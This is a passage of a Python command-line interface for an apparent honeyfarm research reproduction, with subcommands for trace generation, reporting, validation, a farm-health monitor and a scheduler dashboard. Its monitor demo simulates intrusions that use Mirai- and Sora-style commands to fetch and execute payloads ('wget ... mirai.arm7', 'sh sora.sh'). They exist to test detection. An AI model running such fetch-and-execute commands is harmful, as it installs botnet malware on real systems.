    print(format_table(table3_commands(store, 15), ["command", "sessions"]))
    hash_tables = tables_4_5_6(store, dataset.intel, labels)
    for rows, title in ((hash_tables.by_sessions,
                         "Table 4 — top hashes by sessions"),
                        (hash_tables.by_clients,
                         "Table 5 — top hashes by client IPs"),
                        (hash_tables.by_days,
                         "Table 6 — top hashes by active days")):
        print(f"\n{title}")
        print(format_table(
            [(r.hash_label, r.n_sessions, r.n_clients, r.n_days, r.tag,
              r.n_honeypots) for r in rows],
            ["hash", "sessions", "clients", "days", "tag", "pots"]))
    return 0


def cmd_validate(args) -> int:
    from repro.workload.validation import validate

    dataset = _dataset(args)
    report = validate(dataset)
    print(report.render())
    if report.passed:
        print("calibration: PASSED")
        return 0
    print(f"calibration: FAILED ({len(report.failures)} hard checks)")
    return 1


def _emit_metrics(flag) -> None:
    """Report the run's metrics registry when asked to.

    ``--metrics`` (bare) prints the stage-timing tree and counters to
    stderr; ``--metrics PATH`` additionally dumps the registry JSON to
    ``PATH``.  Without the flag the ``REPRO_METRICS`` environment
    variable is consulted: ``1``/``-``/``stderr`` mean stderr-only,
    anything else is treated as a JSON path.  Collection is always on
    (it is just dict increments); this only controls reporting.
    """
    import os

    target = flag if flag is not None else os.environ.get("REPRO_METRICS")
    if not target:
        return
    from repro.obs import dump_json, get_metrics, render

    metrics = get_metrics()
    print(render(metrics), file=sys.stderr)
    if target not in ("-", "1", "stderr"):
        dump_json(metrics, target)
        print(f"metrics json written to {target}", file=sys.stderr)


def cmd_monitor(args) -> int:
    """Live farm-health monitor: demo scenario, or tail a JSONL trace."""
    from repro.analytics import StreamingAnalytics
    from repro.farm.health import FarmHealthMonitor, HealthConfig

    monitor = FarmHealthMonitor(HealthConfig(
        liveness_timeout=args.liveness_timeout,
        interval=args.interval,
        z_threshold=args.z_threshold,
    ))
    analytics = StreamingAnalytics()
    if args.input:
        status = _monitor_tail(args, monitor, analytics)
    else:
        status = _monitor_demo(args, monitor, analytics)
    if args.prometheus:
        from repro.obs import get_metrics, render_prometheus

        with open(args.prometheus, "w", encoding="utf-8") as fh:
            fh.write(render_prometheus(get_metrics()))
        print(f"prometheus metrics written to {args.prometheus}",
              file=sys.stderr)
    return status


def _monitor_report(monitor, analytics=None) -> None:
    print(monitor.render_table())
    if analytics is not None and analytics.events_seen:
        analytics.export_gauges()
        print("\n-- streaming analytics (live uniques / top-k) --")
        print(analytics.render_panels())
    if monitor.notices:
        print("\n-- fresh-hash notifications --")
        for notice in monitor.notices:
            print(notice.render())
            print()


def _monitor_tail(args, monitor, analytics=None) -> int:
    """Consume a flight-recorder JSONL stream (optionally following it)."""
    import json
    import time

    from repro.obs.trace import validate_trace

    events = []
    consumed = 0
    bad_lines = 0
    with open(args.input, "r", encoding="utf-8") as fh:
        idle = 0.0
        while True:
            line = fh.readline()
            if not line:
                if not args.follow or idle >= args.idle_exit:
                    break
                time.sleep(0.2)
                idle += 0.2
                continue
            idle = 0.0
            line = line.strip()
            if not line:
                continue
            try:
                event = json.loads(line)
            except ValueError:
                bad_lines += 1
                continue
            monitor.feed(event)
            if analytics is not None:
                analytics.feed(event)
            consumed += 1
            if args.validate:
                events.append(event)
    _monitor_report(monitor, analytics)
    if bad_lines:
        print(f"warning: {bad_lines} unparseable lines skipped",
              file=sys.stderr)
    if args.validate:
        problems = validate_trace(events)
        if problems:
            print(f"trace INVALID: {len(problems)} problems",
                  file=sys.stderr)
            for problem in problems[:20]:
                print(f"  {problem}", file=sys.stderr)
            return 1
        print(f"trace valid: {consumed} events", file=sys.stderr)
    return 0


def _monitor_demo(args, monitor, analytics=None) -> int:
    """A small live-farm scenario exercising every alert path.

    Deterministic in ``--seed``: round-robin scans (half the pots go silent
    mid-run — the liveness demonstration), periodic scouting probes, two
    intrusions whose ``wget`` drops never-before-seen payloads (the
    fresh-hash notification path), and a session burst near the end (the
    rate-drift demonstration).
    """
    from repro.farm.live import (
        IntrusionBehavior,
        LiveFarm,
        ScanBehavior,
        ScoutBehavior,
    )

    def tap(event):
        monitor.on_event(event)
        if analytics is not None:
            analytics.on_event(event)

    farm = LiveFarm(seed=args.seed, n_honeypots=args.pots, event_tap=tap)
    pots = len(farm.honeypots)
    monitor.watch(h.honeypot_id for h in farm.honeypots)
    duration = args.duration
    busy = max(1, min(3, pots))  # pots that stay active all run

    when, i = 5.0, 0
    while when < duration:
        index = i % pots if when < duration / 2 else i % busy
        farm.launch(0x0A000000 + (i * 7919) % 65521, index,
                    ScanBehavior(), at=when)
        i += 1
        when += 20.0
    when, j = 45.0, 0
    while when < duration:
        farm.launch(0x0B000000 + (j * 104729) % 65521, j % busy,
                    ScoutBehavior(), at=when)
        j += 1
        when += 150.0
    farm.launch(0x0C000001, 0, IntrusionBehavior(lines=(
        "wget http://203.0.113.9/bins/mirai.arm7",
        "chmod +x mirai.arm7",
        "./mirai.arm7",
    )), at=duration * 0.25)
    farm.launch(0x0C000002, 1 % pots, IntrusionBehavior(lines=(
        "wget http://198.51.100.7/payload/sora.sh",
        "sh sora.sh",
    )), at=duration * 0.6)
    burst0 = duration * 0.85
    for k in range(40):
        farm.launch(0x0D000000 + k, k % busy, ScanBehavior(),
                    at=burst0 + float(k))

    farm.run()
    farm.harvest(duration + 600.0)
    monitor.advance(duration)
    _monitor_report(monitor, analytics)
    return 0


def cmd_top(args) -> int:
    """Scheduler dashboard: replay/tail a trace, or run a demo generate."""
    import os

    from repro.sched.dashboard import TopDashboard

    dash = TopDashboard()
    try:
        if args.input:
            return _top_tail(args, dash)
        return _top_demo(args, dash)
    except BrokenPipeError:
        # Downstream reader (head, grep -q) closed the pipe mid-frame;
        # park stdout on devnull so the interpreter's exit flush is quiet.
        os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())
        return 0


def _top_tail(args, dash) -> int:
    """Feed a flight-recorder JSONL stream into the dashboard.

    ``--once`` reads what is there and renders one frame (the CI mode);
    ``--follow`` keeps tailing, repainting every ``--interval`` seconds
    until the stream goes idle for ``--idle-exit`` seconds.
    """
    import json
    import time

    bad_lines = 0
    last_render = time.monotonic()
    with open(args.input, "r", encoding="utf-8") as fh:
        idle = 0.0
        while True:
            line = fh.readline()
            if not line:
                if args.once or not args.follow or idle >= args.idle_exit:
                    break
                time.sleep(0.2)
                idle += 0.2
            else:
                idle = 0.0
                line = line.strip()
                if line:
                    try:
                        dash.feed(json.loads(line))
                    except ValueError:
                        bad_lines += 1
            if args.follow and not args.once and \
                    time.monotonic() - last_render >= args.interval:
                _top_frame(dash)
                last_render = time.monotonic()
    _top_frame(dash, final=True)
    if bad_lines:
        print(f"warning: {bad_lines} unparseable lines skipped",
              file=sys.stderr)
    return 0


def _top_frame(dash, final: bool = False) -> None:
    if not final and sys.stdout.isatty():
        print("\x1b[2J\x1b[H", end="")
    print(dash.render())
    if not final:
        print(flush=True)


def _top_demo(args, dash) -> int:
    """A small pool-backed scheduled generate, rendered as a final frame."""
    from repro.obs.trace import Tracer, use_tracer
    from repro.sched.scheduler import generate_scheduled
    from repro.workload.config import ScenarioConfig

    config = ScenarioConfig(scale=1 / 80000, seed=args.seed,
                            hash_scale=0.004)
    print(f"demo: scheduled generate, pool x{args.workers} "
          f"({config.total_sessions:,} sessions) ...", file=sys.stderr)
    tracer = Tracer()
    with use_tracer(tracer):
        generate_scheduled(config, backend="pool", workers=args.workers)
    dash.feed_all(tracer.to_list())
    print(dash.render())
    return 0


def _run_traced(args, target: str) -> int:
    """Run the command under a flight recorder, then report the trace."""
    from repro.obs import dump_chrome_trace, render_timeline
    from repro.obs.trace import Tracer, use_tracer

    to_file = target not in ("-", "1", "stderr")
    sink = open(target, "w", encoding="utf-8") if to_file else None
    tracer = Tracer(sink=sink)
    try:
        with use_tracer(tracer):
            status = args.func(args)
    finally:
        if sink is not None:
            sink.close()
    events = tracer.to_list()
    print(render_timeline(events), file=sys.stderr)
    note = f"trace: {tracer.emitted} events"
    if tracer.dropped:
        note += f" ({tracer.dropped} dropped from the ring buffer)"
    if to_file:
        note += f", jsonl streamed to {target}"
    print(note, file=sys.stderr)
    chrome = getattr(args, "trace_chrome", None)
    if chrome:
        dump_chrome_trace(events, chrome)
        print(f"chrome trace written to {chrome}", file=sys.stderr)
    return status


def _run_ledgered(args, target: str, runner) -> int:
    """Run the command with the run ledger armed, then write the manifest.

    The CLI pins the run ``kind`` (the subcommand name) up front;
    :func:`repro.api.generate` enriches the same record with the config
    fingerprint and backend once it resolves them.  The manifest is
    written even when the command fails — a failed run's ledger is the
    artefact you want most.
    """
    from repro.obs import RunLedger, get_metrics, use_ledger

    ledger = RunLedger()
    ledger.begin_run(args.command)
    status = 1
    try:
        with use_ledger(ledger):
            status = runner()
    finally:
        ledger.record_stages(get_metrics())
        ledger.finish("ok" if status == 0 else f"exit-{status}")
        count = ledger.write_jsonl(target)
        print(f"run ledger: {count} records written to {target}",
              file=sys.stderr)
    return status


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="Honeyfarm reproduction (IMC'23) command-line interface",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    p_generate = sub.add_parser("generate", help="generate and save a trace")
    _add_scenario_args(p_generate)
    p_generate.add_argument("--out", default="trace.npz",
                            help=".npz (fast) or .jsonl/.jsonl.gz output")
    p_generate.set_defaults(func=cmd_generate)

    p_report = sub.add_parser("report", help="print paper-vs-measured summary")
    _add_scenario_args(p_report)
    _add_load_arg(p_report)
    p_report.add_argument("--streaming", action="store_true",
                          help="also replay the trace through the streaming "
                               "sketch analytics (repro.analytics) and print "
                               "its uniques / mix / top-k panels")
    p_report.set_defaults(func=cmd_report)

    p_tables = sub.add_parser("tables", help="print Tables 1-6")
    _add_scenario_args(p_tables)
    _add_load_arg(p_tables)
    p_tables.set_defaults(func=cmd_tables)

    p_validate = sub.add_parser(
        "validate", help="check calibration against the paper's targets")
    _add_scenario_args(p_validate)
    _add_load_arg(p_validate)
    p_validate.set_defaults(func=cmd_validate)

    p_lint = sub.add_parser(
        "lint", help="determinism & invariant linter (static analysis; "
                     "see DESIGN 6e)")
    from repro.lint.cli import add_lint_arguments, cmd_lint

    add_lint_arguments(p_lint)
    p_lint.set_defaults(func=cmd_lint)

    p_monitor = sub.add_parser(
        "monitor", help="live farm-health monitor (demo scenario, or tail "
                        "a --trace JSONL stream)")
    p_monitor.add_argument("--input", default=None, metavar="PATH",
                           help="consume a flight-recorder JSONL trace "
                                "instead of running the demo scenario")
    p_monitor.add_argument("--follow", action="store_true",
                           help="with --input, keep tailing for new lines")
    p_monitor.add_argument("--idle-exit", type=float, default=10.0,
                           help="with --follow, stop after this many "
                                "seconds without new lines")
    p_monitor.add_argument("--validate", action="store_true",
                           help="schema-validate the consumed events; "
                                "exit 1 on problems")
    p_monitor.add_argument("--seed", type=int, default=7)
    p_monitor.add_argument("--duration", type=float, default=3600.0,
                           help="demo scenario length in simulated seconds")
    p_monitor.add_argument("--pots", type=int, default=8,
                           help="honeypots in the demo farm")
    p_monitor.add_argument("--interval", type=float, default=60.0,
                           help="drift-statistics interval (sim seconds)")
    p_monitor.add_argument("--liveness-timeout", type=float, default=900.0)
    p_monitor.add_argument("--z-threshold", type=float, default=3.0)
    p_monitor.add_argument("--prometheus", default=None, metavar="PATH",
                           help="write the metrics registry in Prometheus "
                                "text format after the run")
    _add_trace_args(p_monitor)
    p_monitor.set_defaults(func=cmd_monitor)

    p_top = sub.add_parser(
        "top", help="live scheduler dashboard: per-worker heartbeat rows, "
                    "task progress and recent alerts from a --trace JSONL "
                    "stream (or a built-in demo generate)")
    p_top.add_argument("--input", default=None, metavar="PATH",
                       help="flight-recorder JSONL stream to render "
                            "(e.g. the --trace file of a running generate)")
    p_top.add_argument("--once", action="store_true",
                       help="with --input, read what is there, render one "
                            "frame and exit (the CI mode)")
    p_top.add_argument("--follow", action="store_true",
                       help="with --input, keep tailing for new lines")
    p_top.add_argument("--idle-exit", type=float, default=10.0,
                       help="with --follow, stop after this many seconds "
                            "without new lines")
    p_top.add_argument("--interval", type=float, default=2.0,
                       help="with --follow, seconds between repaints")
    p_top.add_argument("--seed", type=int, default=7,
                       help="demo-mode scenario seed")
    p_top.add_argument("--workers", type=int, default=2,
                       help="demo-mode pool worker count")
    p_top.set_defaults(func=cmd_top)

    args = parser.parse_args(argv)
    import os

    trace_flag = getattr(args, "trace", None)
    trace_target = (trace_flag if trace_flag is not None
                    else os.environ.get("REPRO_TRACE"))
    if trace_target:
        runner = lambda: _run_traced(args, trace_target)  # noqa: E731
    else:
        runner = lambda: args.func(args)  # noqa: E731
    ledger_flag = getattr(args, "ledger", None)
    ledger_target = (ledger_flag if ledger_flag is not None
                     else os.environ.get("REPRO_LEDGER"))
    if ledger_target:
        status = _run_ledgered(args, ledger_target, runner)
    else:
        status = runner()
    _emit_metrics(getattr(args, "metrics", None))
    return status


if __name__ == "__main__":
    raise SystemExit(main())
